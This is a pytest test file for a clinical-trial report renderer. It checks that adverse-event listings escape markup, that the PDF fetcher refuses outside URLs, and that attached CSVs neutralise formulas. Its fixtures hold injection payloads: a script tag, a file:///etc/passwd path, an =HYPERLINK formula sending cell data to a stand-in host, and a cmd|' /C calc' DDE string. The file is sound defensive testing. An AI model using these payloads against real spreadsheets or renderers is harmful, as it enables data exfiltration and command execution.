"""Rendering of the report: safe text, restricted fetching, pinned fonts, PDF/A-3b, same bytes."""

from __future__ import annotations

import csv
import hashlib
import io
import textwrap
from pathlib import Path

import jinja2
import pandas as pd
import pytest
from pdf_checks import assert_only_pinned_fonts
from pypdf import PdfReader
from weasyprint.urls import FatalURLFetchingError

from oncocsr.report import (
    FONT_DIR,
    FONTS,
    environment,
    font_faces,
    restricted_fetcher,
    write_pdf,
)
from oncocsr.tlf.listings import Listing, adverse_event_listing
from oncocsr.tlf.render import (
    FSI,
    LISTING_CHARS,
    PDI,
    column_widths,
    fixed_width,
    listing_csv,
    page_frame,
    render_appendix,
    render_listing,
    write_listing_appendix,
)
from oncocsr.tlf.rtf import table_rtf
from oncocsr.tlf.tables import Table

ROOT = Path(__file__).resolve().parents[1]
TEMPLATES = ROOT / "reports"
HOSTILE = [
    "<script>alert(1)</script>",
    '<img src="http://127.0.0.1:9/x">',
    "file:///etc/passwd",
    "{\\rtf1 \\par}",
]
STUDY = {"protocol": "P-1", "sponsor": "S", "title": "T", "treatment": "X"}
CUT = {"name": "primary", "cutoff": "2016-10-13", "description": ""}
PIPELINE = {"version": "0", "commit": "abc"}
EPOCH = 1476316800


def hostile_adae() -> pd.DataFrame:
    """Four AEs whose verbatim terms are markup, a URL and RTF control words."""
    n = len(HOSTILE)
    day = pd.Timestamp("2015-01-01")
    return pd.DataFrame(
        {
            "USUBJID": [f"S-{i}" for i in range(n)],
            "AESEQ": [1.0] * n,
            "AEBODSYS": ["Gastrointestinal disorders"] * n,
            "AEDECOD": ["Diarrhoea"] * n,
            "AETERM": HOSTILE,
            "ASTDT": [day] * n,
            "AENDT": [pd.NaT] * n,
            "ASTDY": [3] * n,
            "AETOXGR": ["2"] * n,
            "AESER": ["N"] * n,
            "AEREL": ["RELATED"] * n,
            "AEACN": ["DOSE NOT CHANGED"] * n,
            "AEOUT": ["RECOVERING/RESOLVING"] * n,
            "TRTEMFL": ["Y"] * n,
            "SAFFL": ["Y"] * n,
        }
    )


def render_hostile(path: Path) -> str:
    listing = adverse_event_listing(hostile_adae())
    html = render_listing(listing, footer_text="Source: ADAE.", template_dir=TEMPLATES)
    frame = page_frame(study=STUDY, cut=CUT, pipeline=PIPELINE, template_dir=TEMPLATES)
    document = render_appendix(html, tlf_id="16.2.2", frame=frame, template_dir=TEMPLATES)
    write_pdf(document, path, base_dir=TEMPLATES, allowed_roots=[TEMPLATES], epoch=EPOCH)
    return document


def pdf_text(path: Path) -> str:
    return " ".join(" ".join(page.extract_text() for page in PdfReader(path).pages).split())


def test_data_values_are_text_not_markup(tmp_path):
    html = render_hostile(tmp_path / "listing.pdf")
    assert "<script>" not in html and "<img" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    # Had the <img> been markup, the fetcher would have refused http:// and stopped the render.
    # The fixed-width layout wraps a value over lines of its column: each piece is in the text.
    listing = adverse_event_listing(hostile_adae())
    width = column_widths(listing.columns, listing.rows, LISTING_CHARS)[
        listing.columns.index("Reported term")
    ]
    text = pdf_text(tmp_path / "listing.pdf")
    for value in HOSTILE:
        for piece in textwrap.wrap(value, width, break_long_words=True, break_on_hyphens=False):
            assert piece in text


def test_markup_in_the_template_cannot_reach_outside_the_project(tmp_path):
    for src in ["http://127.0.0.1:9/x", "file:///etc/passwd", (TEMPLATES / ".." / "..").as_uri()]:
        html = f'<html><body><p>x</p><img src="{src}"></body></html>'
        with pytest.raises(FatalURLFetchingError) as error:
            write_pdf(
                html,
                tmp_path / "x.pdf",
                base_dir=TEMPLATES,
                allowed_roots=[TEMPLATES],
                epoch=EPOCH,
            )
        assert "refused" in str(error.value.__cause__)


def test_fetcher_serves_project_files_and_fonts_only():
    fetcher = restricted_fetcher([TEMPLATES, FONT_DIR])
    served = fetcher.fetch((TEMPLATES / "csr.css").as_uri())
    assert served.read() == (TEMPLATES / "csr.css").read_bytes()
    font = fetcher.fetch((FONT_DIR / FONTS["normal", "normal"]).as_uri())
    assert font.read()[:4] == b"\x00\x01\x00\x00"  # a TrueType font file
    refused = [
        "file:///etc/passwd",
        (TEMPLATES / ".." / ".." / "etc" / "passwd").as_uri(),
        "http://127.0.0.1:9/x",
        "https://example.org/font.ttf",
        "ftp://example.org/x",
    ]
    for url in refused:
        with pytest.raises(ValueError, match="refused"):
            fetcher.fetch(url)


def test_templates_fail_on_undefined_names():
    with pytest.raises(jinja2.UndefinedError):
        environment(TEMPLATES).from_string("{{ missing }}").render()


def test_embedded_fonts_are_the_pinned_dejavu_files(tmp_path):
    render_hostile(tmp_path / "listing.pdf")
    assert_only_pinned_fonts(tmp_path / "listing.pdf")


def test_pdf_is_pdf_a_3b_with_attachments_and_the_same_bytes_anywhere(tmp_path):
    html = (
        f'<html><head><meta charset="utf-8"><title>t</title><style>{font_faces()} '
        "html { font-family: 'CSR Sans'; }</style></head><body><p>Report</p></body></html>"
    )
    attachments = {
        "provenance.json": (b'{"a": 1}\n', "Provenance"),
        "ard.parquet": (b"PAR1", "ARD"),
    }
    paths = []
    for folder in ("one", "two"):
        (tmp_path / folder).mkdir()
        paths.append(tmp_path / folder / "report.pdf")
        write_pdf(
            html,
            paths[-1],
            base_dir=TEMPLATES,
            allowed_roots=[TEMPLATES],
            epoch=EPOCH,
            attachments=attachments,
        )
    assert paths[0].read_bytes() == paths[1].read_bytes()
    reader = PdfReader(paths[0])
    assert {name: data[0] for name, data in reader.attachments.items()} == {
        "provenance.json": b'{"a": 1}\n',
        "ard.parquet": b"PAR1",
    }
    xmp = reader.trailer["/Root"]["/Metadata"].get_object().get_data().decode()
    assert 'pdfaid:part="3"' in xmp and 'pdfaid:conformance="B"' in xmp
    root = reader.trailer["/Root"]
    assert "/OutputIntents" in root
    # PDF/A-3 associates each embedded file with the document (/AF), as its source data.
    relations = {str(spec.get_object()["/AFRelationship"]) for spec in root["/AF"]}
    assert relations == {"/Source"}
    assert_only_pinned_fonts(paths[0])


def test_rtf_copy_keeps_data_values_as_text():
    table = Table(
        tlf_id="14.3.3",
        title="TEAEs",
        population="Safety set",
        columns=["Arm (N=2)"],
        rows=[{"label": value, "cells": ["1 (50.0)"]} for value in [*HOSTILE, "mg/m² ≥ 3"]],
    )
    rtf = table_rtf([table], "Source: ADAE {x}.", study=STUDY, cut=CUT)
    # Unescaped braces would open RTF groups: the counts balance only when data braces are escaped.
    body = rtf.replace("\\\\", "").replace("\\{", "").replace("\\}", "")
    assert body.count("{") == body.count("}")
    assert "\\{\\\\rtf1 \\\\par\\}" in rtf
    assert "Source: ADAE \\{x\\}." in rtf
    # Beyond ASCII: RTF Unicode escapes (U+00B2 = 178, U+2265 = 8805), so the file is ASCII.
    assert "mg/m\\u178? \\u8805? 3" in rtf and rtf.isascii()


@pytest.mark.parametrize("max_rows", [39, 40])
def test_a_listing_above_appendix_max_rows_is_a_cover_page_with_its_rows_attached(
    tmp_path, max_rows
):
    # 40 rows whose values need CSV quoting (comma, quote, newline, non-ASCII).
    rows = [[f"S-{i:03d}", f'Nausea, "grade {i % 3}"\nré-{i}'] for i in range(40)]
    listing = Listing("16.2.2", "Adverse events", "Safety set", ["Subject", "Term"], rows, [30, 70])
    output = tmp_path / "listing-16.2.2.pdf"
    frame = page_frame(study=STUDY, cut=CUT, pipeline=PIPELINE, template_dir=TEMPLATES)
    info = write_listing_appendix(
        listing,
        output,
        footer_text="f",
        frame=frame,
        template_dir=TEMPLATES,
        epoch=EPOCH,
        max_rows=max_rows,
    )
    reader = PdfReader(output)
    assert info["pages"] == len(reader.pages)
    assert info["sha256"] == hashlib.sha256(output.read_bytes()).hexdigest()
    text = " ".join(pdf_text(output).split())
    if max_rows == 40:
        # Laid out as pages: every row is printed and nothing is attached.
        assert info["csv"] is None and not reader.attachments
        assert all(row[0] in text for row in rows)
        return
    assert info["csv"] == "listing-16.2.2.csv" and len(reader.pages) == 1
    data = reader.attachments["listing-16.2.2.csv"][0]
    assert list(csv.reader(io.StringIO(data.decode("utf-8")))) == [listing.columns, *rows]
    assert "This listing has 40 rows; listings longer than 39 rows are not printed" in text
    assert hashlib.sha256(data).hexdigest() in "".join(text.split())
    assert "S-000" not in text


def test_fixed_width_listing_columns_fit_the_page_and_keep_words_whole():
    columns = ["Subject", "Term", "Outcome"]
    rows = [["S-001", "Nausea", "RECOVERED/RESOLVED"], ["S-002", "Fatigue", "NOT RECOVERED"]]
    # Everything fits: each column is as wide as its longest value (header included).
    assert column_widths(columns, rows, 60) == [7, 7, 18]
    # Too narrow for one line per value: the widths use the whole line (two blanks between
    # columns) and no column is narrower than its longest word.
    widths = column_widths(columns, rows, 36)
    assert sum(widths) + 2 * 2 == 36 and widths[2] >= len("RECOVERED/RESOLVED")
    line = fixed_width(["S-003", "Neutrophil count decreased", "RECOVERED/RESOLVED"], [6, 10, 18])
    # Each piece is a bidi isolate (FSI ... PDI take no room): the padding stays outside it.
    assert line.split("\n") == [
        f"{FSI}S-003{PDI}   {FSI}Neutrophil{PDI}  {FSI}RECOVERED/RESOLVED{PDI}",
        f"        {FSI}count{PDI}",
        f"        {FSI}decreased{PDI}",
    ]


def test_the_attached_csv_neutralises_formulas_but_keeps_numbers():
    """A listing's CSV kept =HYPERLINK(...) as it was: a spreadsheet opening the file ran it."""
    values = {
        '=HYPERLINK("http://x.test/?d="&A1,"click")': '\'=HYPERLINK("http://x.test/?d="&A1,"click")',
        "+1+1": "'+1+1",
        "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)": "'@SUM(A1:A9)",
        "\t=1+1": "'\t=1+1",
        "\r=1+1": "'\r=1+1",
        "\n=1+1": "'\n=1+1",
        # A line break inside a value starts no new row, whose first cell would be a formula.
        "ok\r=1+1": "ok\r=1+1",
        "ok\n=1+1": "ok\n=1+1",
        "-": "'-",
        # Data, not formulas: plain numbers, dates, durations, text with a sign inside.
        "-12.5": "-12.5",
        "-3": "-3",
        "2016-10-13": "2016-10-13",
        "P1D": "P1D",
        "a=b": "a=b",
        "": "",
    }
    listing = Listing("16.2.2", "AEs", "Safety set", ["Value"], [[value] for value in values])
    rows = list(csv.reader(io.StringIO(listing_csv(listing).decode("utf-8"), newline="")))
    assert rows == [["Value"], *([value] for value in values.values())]


class SystemHbSubset:
    """Stands for the system library libharfbuzz-subset, as WeasyPrint holds it once loaded:
    using it fails the test."""

    def __getattr__(self, name):
        raise AssertionError(f"WeasyPrint subset a font with the system's hb-subset ({name})")


def test_fonts_are_subset_by_fonttools_whatever_the_system_has(tmp_path, monkeypatch):
    """WeasyPrint subsets with hb-subset when the system has libharfbuzz-subset, else with
    fontTools: the same report gave two PDFs. Both ways now run fontTools, to the same bytes."""
    from weasyprint.pdf import fonts

    subset = fonts.Font._fonttools_subset
    families = []

    def spy(font, *args):
        families.append(font.family)
        return subset(font, *args)

    monkeypatch.setattr(fonts.Font, "_fonttools_subset", spy)
    frame = page_frame(study=STUDY, cut=CUT, pipeline=PIPELINE, template_dir=TEMPLATES)
    html = render_listing(
        adverse_event_listing(hostile_adae()), footer_text="Source: ADAE.", template_dir=TEMPLATES
    )
    document = render_appendix(html, tlf_id="16.2.2", frame=frame, template_dir=TEMPLATES)
    pdfs = []
    for system in (None, SystemHbSubset()):
        monkeypatch.setattr(fonts, "harfbuzz_subset", system)
        path = tmp_path / f"{len(pdfs)}.pdf"
        write_pdf(document, path, base_dir=TEMPLATES, allowed_roots=[TEMPLATES], epoch=EPOCH)
        pdfs.append(path.read_bytes())
        # WeasyPrint's own view of the system is left as it was.
        assert fonts.harfbuzz_subset is system
    assert pdfs[0] == pdfs[1]
    # Every embedded font (text and listing faces), each time.
    assert (
        len(families) % 2 == 0 and families[: len(families) // 2] == families[len(families) // 2 :]
    )
    assert {"CSR Sans", "CSR Mono"} <= set(families)
